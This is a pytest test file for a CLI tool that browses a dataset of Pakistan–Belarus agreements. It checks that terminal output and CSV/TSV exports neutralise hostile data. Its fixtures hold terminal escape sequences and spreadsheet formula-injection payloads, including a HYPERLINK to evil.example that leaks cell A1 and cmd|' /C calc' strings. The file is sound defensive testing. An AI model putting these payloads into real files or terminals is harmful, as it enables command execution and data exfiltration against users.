"""Output safety: data never drives the terminal, spreadsheets never run a cell, odd terminals never crash bilat.

Escape sequences are put into the compiled database directly (`poisoned`), so these tests exercise the
renderers whatever `bilat validate` thinks of control characters in the YAML; the YAML cases accept either
answer (rejected with a safe message, or rendered safely): in both, nothing raw may be printed.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pytest

from bilat.problems import Problem, say
from bilat.render import CELL_LIMIT, Column, cell, console, json_text, spreadsheet_safe, write_records
from bilat.visible import json_visible, visible, writes_utf8
from conftest import MINI_DATA, bilat_script, cli, copy_dataset
from contract_data import hostile_dataset, on_terminal

# A window title (OSC 0, ended by BEL), clear screen, an OSC 8 link, a colour, a bidi override, a C1 CSI.
PAYLOAD = (
    "\x1b]0;pwned\x07\x1b[2J\x1b]8;;http://evil.example/\x1b\\click\x1b]8;;\x1b\\\x1b[31mRED\u202eevil\u202c\x9b2J"
)
SHOWN = "\\x1b]0;pwned\\x07"  # how the window-title sequence looks once made visible
RAW = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]|\r(?!\n)")
RICH_SGR = re.compile(r"\x1b\[[0-9;]*m")  # Rich's own bold/italic on a terminal
TERMINAL = {"NO_COLOR": "1", "TERM": "xterm"}

# Phrases of the mini dataset that get PAYLOAD after their first word, in every table of the database:
# an agreement's title and summary, an event's title and summary, a person, an organisation, an outlet,
# a follow-up, a quote (and the source text it is quoted from), a discrepancy's reading.
PHRASES = (
    "Readmission Agreement",
    "Signed between the interior ministries",
    "Sharif and Lukashenko meet",
    "Discussed an MoU",
    "Hina Rabbani Khar",
    "Interior ministries of Pakistan and Belarus",
    "Alpha News",
    "The labour MoU to be finalised",
    "De Moor",
)


def assert_nothing_raw(text: str, *, terminal: bool = False) -> None:
    """No control character from the data in `text` (on a terminal, Rich's own SGR styling is allowed)."""
    assert "\x1b[31m" not in text  # the data's colour (Rich never writes it under NO_COLOR)
    rest = RICH_SGR.sub("", text) if terminal else text
    found = RAW.search(rest)
    assert found is None, (
        f"raw {found.group()!r} at {found.start()}: {rest[max(0, found.start() - 60) : found.end() + 20]!r}"
    )


def _poison(db: Path, replacements: dict[str, str]) -> None:
    """Rewrite every text cell of the compiled database (JSON cells as JSON), as a tampered build would."""
    with sqlite3.connect(db) as conn:
        tables = [
            name
            for (name,) in conn.execute("select name from sqlite_master where type = 'table'")
            if not name.startswith(("_", "search_index_fts", "agreements_fts", "sqlite_"))
        ]
        for table in tables:
            columns = [row[1] for row in conn.execute(f"pragma table_info([{table}])")]
            for rowid, *values in conn.execute(f"select rowid, {', '.join(f'[{c}]' for c in columns)} from [{table}]"):
                for column, value in zip(columns, values, strict=True):
                    new = _replaced(value, replacements)
                    if new != value:
                        conn.execute(f"update [{table}] set [{column}] = ? where rowid = ?", (new, rowid))


def _replaced(value: Any, replacements: dict[str, str]) -> Any:
    if not isinstance(value, str):
        return value
    as_json = value[:1] in ("[", "{")
    for old, new in replacements.items():
        value = value.replace(old, json.dumps(new)[1:-1] if as_json else new)
    return value


@pytest.fixture
def poisoned(mini: Path) -> Path:
    """The mini dataset, built, with PAYLOAD in every kind of text of its database; returns the database."""
    built = cli("build")
    assert built.exit_code == 0, built.stderr
    db = Path(os.environ["BILAT_DB"])
    _poison(db, {p: p.replace(" ", f" {PAYLOAD} ", 1) for p in PHRASES})
    listed = json.loads(cli("list", "--format", "json").stdout)
    assert any(PAYLOAD in r["title"] for r in listed), "the database was not poisoned"
    return db


# ---------------------------------------------------------------- bilat.visible


@pytest.mark.parametrize(
    "char, shown",
    [
        ("\x00", "\\x00"),
        ("\x07", "\\x07"),
        ("\x08", "\\x08"),
        ("\x0b", "\\x0b"),
        ("\x1b", "\\x1b"),
        ("\x7f", "\\x7f"),
        ("\x85", "\\x85"),
        ("\x9b", "\\x9b"),
        ("\r", "\\x0d"),
        ("\u202e", "\\u202e"),
        ("\u2066", "\\u2066"),
        ("\u2069", "\\u2069"),
        ("\udcff", "\\udcff"),  # an undecodable byte from argv: it could not even be written to stdout
    ],
)
def test_visible_shows_each_control_character(char: str, shown: str) -> None:
    assert visible(f"a{char}b") == f"a{shown}b"


def test_visible_keeps_layout_and_ordinary_text() -> None:
    text = "Беларусь پاکستان “quoted” a\tb\nc\r\nd é · … \\x1b"
    assert visible(text) is text  # nothing to do: the same object, no copy
    assert visible(visible(PAYLOAD)) == visible(PAYLOAD)  # idempotent: two layers may both apply it
    assert RAW.search(visible(PAYLOAD)) is None


def test_json_visible_escapes_what_json_leaves_raw_and_reads_back_the_same() -> None:
    data = {"title": PAYLOAD + "\x85\u2028 Беларусь"}
    text = json_visible(json.dumps(data, ensure_ascii=False))
    assert RAW.search(text) is None and "\u2028" not in text
    assert "Беларусь" in text
    assert json.loads(text) == data


def test_writes_utf8_judges_the_stream_encoding() -> None:
    utf8 = io.TextIOWrapper(io.BytesIO(), encoding="UTF8")
    ascii_ = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    assert writes_utf8(utf8) and writes_utf8(io.StringIO())
    assert not writes_utf8(ascii_)


# ---------------------------------------------------------------- renderers, below the CLI


TITLE = f"=1+1 Title {PAYLOAD}"  # a formula, for spreadsheets, and escapes, for terminals


def _records() -> list[dict[str, Any]]:
    return [{"id": "x-1", "date": "2025-01-01", "title": TITLE, "figures": [f"5 {PAYLOAD}"]}]


COLUMNS = [Column("id", "id", no_wrap=True), Column("date", "date", no_wrap=True), Column("title", "title", 60)]


@pytest.mark.parametrize("fmt", ["table", "plain", "md"])
def test_records_for_people_show_control_characters(fmt: str) -> None:
    out = io.StringIO()
    write_records(_records(), fmt, COLUMNS, out, title="1 agreement")
    assert_nothing_raw(out.getvalue())
    assert SHOWN in out.getvalue().replace("\n", "").replace(" ", "")  # shown, not dropped (a table may fold it)


@pytest.mark.parametrize("fmt", ["json", "jsonl", "csv", "tsv"])
def test_machine_formats_keep_the_data(fmt: str) -> None:
    out = io.StringIO()
    write_records(_records(), fmt, COLUMNS, out, fields=["id", "title"])
    if fmt in ("json", "jsonl"):
        assert RAW.search(out.getvalue()) is None  # every control character escaped...
        records = json.loads(out.getvalue()) if fmt == "json" else [json.loads(out.getvalue())]
        assert records[0]["title"] == TITLE  # ...and read back exactly
    else:
        rows = list(csv.DictReader(io.StringIO(out.getvalue()), dialect="excel" if fmt == "csv" else "excel-tab"))
        assert rows[0]["title"] == "'" + TITLE  # the data, escapes included, as text for a spreadsheet


def test_summary_table_shows_control_characters() -> None:
    from bilat.show_render import write_summary

    counts: dict[str, list[dict[str, Any]]] = {"total": [{"count": 2}]}
    for dim in ("country", "status", "sector", "kind", "year"):
        counts[dim] = [{"key": "x", "label": f"{dim} {PAYLOAD}", "count": 2}]
    out = io.StringIO()
    write_summary(counts, out)
    assert_nothing_raw(out.getvalue())
    assert SHOWN in out.getvalue()


def test_problem_and_messages_show_control_characters(capsys: pytest.CaptureFixture[str]) -> None:
    problem = Problem("agreements.yaml", 3, 5, f"agreements[0].{PAYLOAD}", f"unknown field {PAYLOAD}")
    assert_nothing_raw(str(problem))
    assert str(problem).startswith("agreements.yaml:3:5: agreements[0].\\x1b]0;pwned")
    say(f"error: {PAYLOAD}\n")
    err = capsys.readouterr().err
    assert_nothing_raw(err)
    assert err.endswith("\n") and err.count("\n") == 1


# ---------------------------------------------------------------- CSV / TSV formulas


@pytest.mark.parametrize(
    "text, written",
    [
        ('=HYPERLINK("http://evil.example/?x="&A1,"click")', '\'=HYPERLINK("http://evil.example/?x="&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3+cmd|' /C notepad'!A0", "'-2+3+cmd|' /C notepad'!A0"),
        ("@SUM(1+1)*cmd", "'@SUM(1+1)*cmd"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("+3.2", "+3.2"),
        ("-1.1816", "-1.1816"),
        ("-1e5", "-1e5"),
        ("US-UK = friends", "US-UK = friends"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(text: str, written: str) -> None:
    assert spreadsheet_safe(text) == written


def _formula_dataset(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    path = copy_dataset(MINI_DATA, tmp_path / "formulas")
    text = path.read_text(encoding="utf-8")
    for old, new in FORMULAS.items():
        assert old in text, f"the mini dataset changed: {old!r} is gone"
        text = text.replace(old, new)
    path.write_text(text, encoding="utf-8")
    monkeypatch.setenv("BILAT_DATA", str(path))
    return path


FORMULAS = {
    "title: MoU on labour partnerships [draft]": """title: '=HYPERLINK("http://evil.example/?x="&A1,"click")'""",
    "title: Agreement to send 150,000 skilled workers": "title: \"@SUM(1+1)*cmd|' /C calc'!A0\"",
    "summary: Signed between the interior ministries.": "summary: \"-2+3+cmd|' /C notepad'!A0\"",
    "title: Sharif and Lukashenko meet": "title: \"+cmd|' /C calc'!A0\"",
}


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_and_tsv_cells_never_start_a_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, fmt: str) -> None:
    _formula_dataset(tmp_path, monkeypatch)
    dialect = "excel" if fmt == "csv" else "excel-tab"
    exact = {r["id"]: r for r in json.loads(cli("list", "--format", "json").stdout)}
    result = cli("list", "--format", fmt)
    assert result.exit_code == 0, result.stderr
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(result.stdout), dialect=dialect)}
    for row in rows.values():
        assert not any(v.startswith(("=", "+", "@")) for v in row.values()), row
    assert rows["pk-be-labour-mou"]["title"] == "'" + exact["pk-be-labour-mou"]["title"]
    assert exact["pk-be-labour-mou"]["title"].startswith("=HYPERLINK(")  # JSON stays exact
    assert rows["pk-by-skilled-workers"]["title"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert rows["pk-by-readmission"]["summary"] == "'-2+3+cmd|' /C notepad'!A0"
    assert rows["pk-by-readmission"]["title"] == "Readmission Agreement"  # ordinary cells are untouched
    timeline = list(csv.DictReader(io.StringIO(cli("timeline", "--format", fmt).stdout), dialect=dialect))
    assert "'+cmd|' /C calc'!A0" in [r["title"] for r in timeline]


def test_search_csv_keeps_negative_scores_as_numbers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    _formula_dataset(tmp_path, monkeypatch)
    result = cli("search", "readmission", "--format", "csv")
    assert result.exit_code == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    scores = [r["score"] for r in rows]
    assert scores and all(re.fullmatch(r"-?\d+(\.\d+)?", s) for s in scores), scores
    assert any(s.startswith("-") for s in scores)  # so the exception for numbers was needed
    assert "'+cmd|' /C calc'!A0" in [r["title"] for r in rows]  # the event's title, neutralised in search too


# ---------------------------------------------------------------- the commands, piped and on a terminal

PIPED = [
    ["list"],
    ["list", "--format", "md"],
    ["search", "Readmission"],
    ["search", "Khar", "--format", "md"],
    ["show", "pk-by-readmission"],
    ["show", "khar"],
    ["show", "alpha"],
    ["show", "beta"],
    ["show", "sharif-lukashenko-reported-2025-04-12"],
    ["show", "labour-mou-finalised"],
    ["show", "interior-ministries"],
    ["show", "de-moor-spelling"],
    ["brief", "2025-04-12"],
    ["brief", "pk-by-readmission"],
    ["brief", "belarus"],
    ["timeline"],
    ["timeline", "--format", "md"],
]


@pytest.mark.parametrize("args", PIPED, ids=" ".join)
def test_piped_output_shows_control_characters(poisoned: Path, args: list[str]) -> None:
    result = cli(*args)
    assert result.exit_code == 0, result.stderr
    assert_nothing_raw(result.stdout)
    assert_nothing_raw(result.stderr)
    assert "\\x1b]0;pwned" in result.stdout  # the data is shown, not silently dropped


@pytest.mark.parametrize("args", [a for a in PIPED if "--format" not in a], ids=" ".join)
def test_terminal_output_shows_control_characters(poisoned: Path, args: list[str]) -> None:
    code, out, err = on_terminal(args, TERMINAL)
    assert code == 0, err
    assert "\x1b[" in out  # a Rich rendering with its own styles, so the SGR allowance is needed
    assert_nothing_raw(out, terminal=True)
    assert_nothing_raw(err)


@pytest.mark.parametrize("command", ["bilat list | cat", "bilat show khar | cat", "bilat brief 2025-04-12 | cat"])
def test_installed_script_piped_shows_control_characters(poisoned: Path, command: str) -> None:
    proc = _shell(command)
    assert proc.returncode == 0, proc.stderr
    assert_nothing_raw(proc.stdout)
    assert SHOWN in proc.stdout


def test_json_on_a_terminal_escapes_control_characters(poisoned: Path) -> None:
    code, out, err = on_terminal(["list", "--format", "json"], TERMINAL)
    assert code == 0, err
    assert_nothing_raw(out)
    assert any(PAYLOAD in r["title"] for r in json.loads(out))


def _yaml_with_escapes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, key: bool) -> Path:
    """Mini with YAML escapes (\\e, \\a, \\u202e) in a title, a name and an outlet, or in an unknown key alone."""
    path = copy_dataset(MINI_DATA, tmp_path / "escapes")
    esc = "\\e]0;pwned\\a\\e[2J\\e]8;;http://evil.example/\\e\\\\click\\e]8;;\\e\\\\\\u202eevil\\x9b2J"
    text = path.read_text(encoding="utf-8")
    edits = (
        {"    kind: mou\n": f'    kind: mou\n    "{esc}": x\n'}
        if key
        else {
            "title: Readmission Agreement\n": f'title: "Readmission {esc} Agreement"\n',
            "name: Hina Rabbani Khar\n": f'name: "Hina {esc} Khar"\n',
            'outlet: "Alpha News"\n': f'outlet: "Alpha {esc} News"\n',
        }
    )
    for old, new in edits.items():
        assert old in text, f"the mini dataset changed: {old!r} is gone"
        text = text.replace(old, new, 1)
    path.write_text(text, encoding="utf-8")
    monkeypatch.setenv("BILAT_DATA", str(path))
    return path


@pytest.mark.parametrize("args", [["validate"], ["list", "-n", "1"], ["show", "pk-be-labour-mou"]], ids=" ".join)
def test_an_escape_in_a_yaml_key_is_reported_safely(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    _yaml_with_escapes(tmp_path, monkeypatch, key=True)
    result = cli(*args)
    assert result.exit_code == 3, (result.stdout, result.stderr)
    assert_nothing_raw(result.stdout)
    assert_nothing_raw(result.stderr)
    assert "\\x1b" in result.stdout + result.stderr  # the key (or its first control character) named, visibly
    proc = _shell("bilat " + " ".join(args))  # the installed script's fast path too
    assert proc.returncode == 3
    assert_nothing_raw(proc.stdout)
    assert_nothing_raw(proc.stderr)


@pytest.mark.parametrize(
    "args",
    [["list"], ["search", "Readmission"], ["show", "khar"], ["show", "alpha"], ["brief", "belarus"]],
)
def test_escapes_in_yaml_values_are_rejected_or_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, args: list[str]
) -> None:
    _yaml_with_escapes(tmp_path, monkeypatch, key=False)
    code, out, err = on_terminal(args, TERMINAL)
    assert code in (0, 3), err  # shown, or refused by validation: either way nothing raw
    assert_nothing_raw(out, terminal=True)
    assert_nothing_raw(err)
    proc = _shell("bilat " + " ".join(args) + " | cat")
    assert proc.returncode == code
    assert_nothing_raw(proc.stdout)
    assert_nothing_raw(proc.stderr)


# ---------------------------------------------------------------- odd terminals


def _on_pty(args: list[str], env: dict[str, str], timeout: float = 60) -> tuple[int, str, str]:
    """The installed script on a 100-column pseudo-terminal with exactly `env` added (COLUMNS and encodings kept)."""
    return on_terminal(args, env, columns=100, timeout=timeout, base=_base_env(), errors="replace")


def _base_env() -> dict[str, str]:
    """This process's environment without anything that decides width or encoding."""
    drop = ("COLUMNS", "LINES", "PYTHONIOENCODING", "PYTHONUTF8", "LANG", "LANGUAGE")
    return {k: v for k, v in os.environ.items() if k not in drop and not k.startswith("LC_")} | {"NO_COLOR": "1"}


def _shell(command: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full = {**_base_env(), **(env or {})}
    full["PATH"] = str(Path(bilat_script()).parent) + os.pathsep + full.get("PATH", "")
    return subprocess.run(
        ["bash", "-o", "pipefail", "-c", command], capture_output=True, text=True, env=full, timeout=60
    )


@pytest.mark.parametrize("columns", ["0", "5", "19"])
@pytest.mark.parametrize("args, expected", [(["list"], "pk-by-readmission"), (["show", "pk-be-labour-mou"], "labour")])
def test_a_tiny_columns_on_a_terminal_means_80(mini: Path, columns: str, args: list[str], expected: str) -> None:
    code, out, err = _on_pty(args, {"COLUMNS": columns})
    assert code == 0, err
    assert expected in out
    assert 40 < max(len(RICH_SGR.sub("", line)) for line in out.splitlines()) <= 80


def test_console_takes_a_width_below_20_as_unknown(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("COLUMNS", "0")
    assert console(io.StringIO()).width == 80
    monkeypatch.setenv("COLUMNS", "20")
    assert console(io.StringIO()).width == 20


def test_a_huge_title_is_cut_in_a_table_but_not_in_json(poisoned: Path) -> None:
    title = "Long " + "x" * 300_000
    with sqlite3.connect(poisoned) as conn:
        conn.execute("update agreements set title = ? where id = 'pk-by-readmission'", (title,))
    code, out, err = on_terminal(["list"], TERMINAL, timeout=30)
    assert code == 0, err
    assert len(out) < 40_000  # the whole title would be 300 kB, folded over thousands of lines
    assert "…" in out
    exact = json.loads(cli("list", "--format", "json").stdout)
    assert title in [r["title"] for r in exact]


def test_cell_is_capped_after_making_controls_visible() -> None:
    assert len(cell("y" * (CELL_LIMIT * 3))) == CELL_LIMIT
    assert cell("y" * (CELL_LIMIT * 3)).endswith("…")
    assert cell("short") == "short"
    assert RAW.search(cell(PAYLOAD * 1000)) is None


ASCII = {"PYTHONIOENCODING": "ascii"}
C_LOCALE = {"LC_ALL": "C", "LANG": "C", "PYTHONUTF8": "0"}


NON_ASCII = {  # a command, and how a character its output has beyond ASCII is written
    "show pk-be-labour-mou": "\\xb7",  # ·
    "show pk-by-readmission": "\\u0411",  # Б
    "brief pk-by-readmission": "\\u0411",
    "brief 2025-04-12": "",
    "list": "\\u0411",
    "search Belarus": "",
}


@pytest.mark.parametrize("env", [ASCII, C_LOCALE], ids=["PYTHONIOENCODING=ascii", "LC_ALL=C"])
@pytest.mark.parametrize("command", list(NON_ASCII))
def test_a_non_utf8_stdout_gets_backslash_escapes_not_a_crash(hostile: Path, env: dict[str, str], command: str) -> None:
    proc = _shell(f"bilat {command} | cat", env)
    assert proc.returncode == 0, proc.stderr
    assert "UnicodeEncodeError" not in proc.stderr
    assert proc.stdout.isascii() and proc.stderr.isascii()
    assert NON_ASCII[command] in proc.stdout


@pytest.mark.parametrize("env", [ASCII, C_LOCALE], ids=["PYTHONIOENCODING=ascii", "LC_ALL=C"])
@pytest.mark.parametrize("command", ["list --format json", "list --format jsonl", "brief 2025-04-12 --format json"])
def test_json_on_a_non_utf8_stdout_is_ascii_and_exact(hostile: Path, env: dict[str, str], command: str) -> None:
    exact = _shell(f"bilat {command}", {"PYTHONUTF8": "1"})
    proc = _shell(f"bilat {command}", env)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.isascii()
    assert not exact.stdout.isascii()  # the dataset has Cyrillic: so the ASCII spelling was needed

    def parsed(text: str) -> Any:
        return [json.loads(line) for line in text.splitlines()] if "jsonl" in command else json.loads(text)

    assert parsed(proc.stdout) == parsed(exact.stdout)


@pytest.mark.parametrize("args", [["list"], ["show", "pk-by-readmission"], ["brief", "2025-04-12"], ["summary"]])
def test_rich_on_an_ascii_terminal_does_not_crash(hostile: Path, args: list[str]) -> None:
    code, out, err = _on_pty(args, {**ASCII, "NO_COLOR": "", "TERM": "xterm"})  # in colour: summary draws bars
    assert code == 0, err
    assert out.isascii() and "UnicodeEncodeError" not in err
    assert "pk-by-readmission" in out or "Readmission" in out or "agreements" in out


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The shell-contract dataset: a title with Cyrillic and Urdu, brackets, a tab and a newline."""
    path = hostile_dataset(tmp_path / "hostile")
    monkeypatch.setenv("BILAT_DATA", str(path))
    return path


def test_json_text_is_ascii_only_for_a_stream_that_is_not_utf8() -> None:
    ascii_ = io.TextIOWrapper(io.BytesIO(), encoding="ascii")
    assert (
        json_text({"t": "Беларусь\u202e"}, ascii_)
        == '{"t": "\\u0411\\u0435\\u043b\\u0430\\u0440\\u0443\\u0441\\u044c\\u202e"}'
    )
    assert json_text({"t": "Беларусь\u202e"}, io.StringIO()) == '{"t": "Беларусь\\u202e"}'


class _Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


@pytest.mark.parametrize("fmt", ["csv", "tsv"])
def test_csv_on_a_terminal_shows_escapes_and_stays_exact_in_a_pipe(fmt: str) -> None:
    from bilat.render import Column, write_records

    records = [{"id": "a", "title": "x\x1b]0;pwned\x07y"}]
    columns = [Column("id", "id"), Column("title", "title")]
    tty, pipe = _Terminal(), io.StringIO()
    write_records(records, fmt, columns, fields=("id", "title"), out=tty)
    write_records(records, fmt, columns, fields=("id", "title"), out=pipe)
    assert "\x1b" not in tty.getvalue() and "\\x1b]0;pwned\\x07" in tty.getvalue()
    assert "\x1b]0;pwned\x07" in pipe.getvalue()


def test_completion_candidates_show_escapes(mini: Path) -> None:
    import sqlite3

    assert cli("build").exit_code == 0
    conn = sqlite3.connect(os.environ["BILAT_DB"])
    conn.execute("update agreements set id = 'pk-\x1b]0;pwned\x07' where id = 'pk-by-readmission'")
    conn.commit()
    conn.close()
    from bilat.cli import _complete_ids

    candidates = _complete_ids("pk-")
    assert "pk-\\x1b]0;pwned\\x07" in candidates and all("\x1b" not in c for c in candidates)
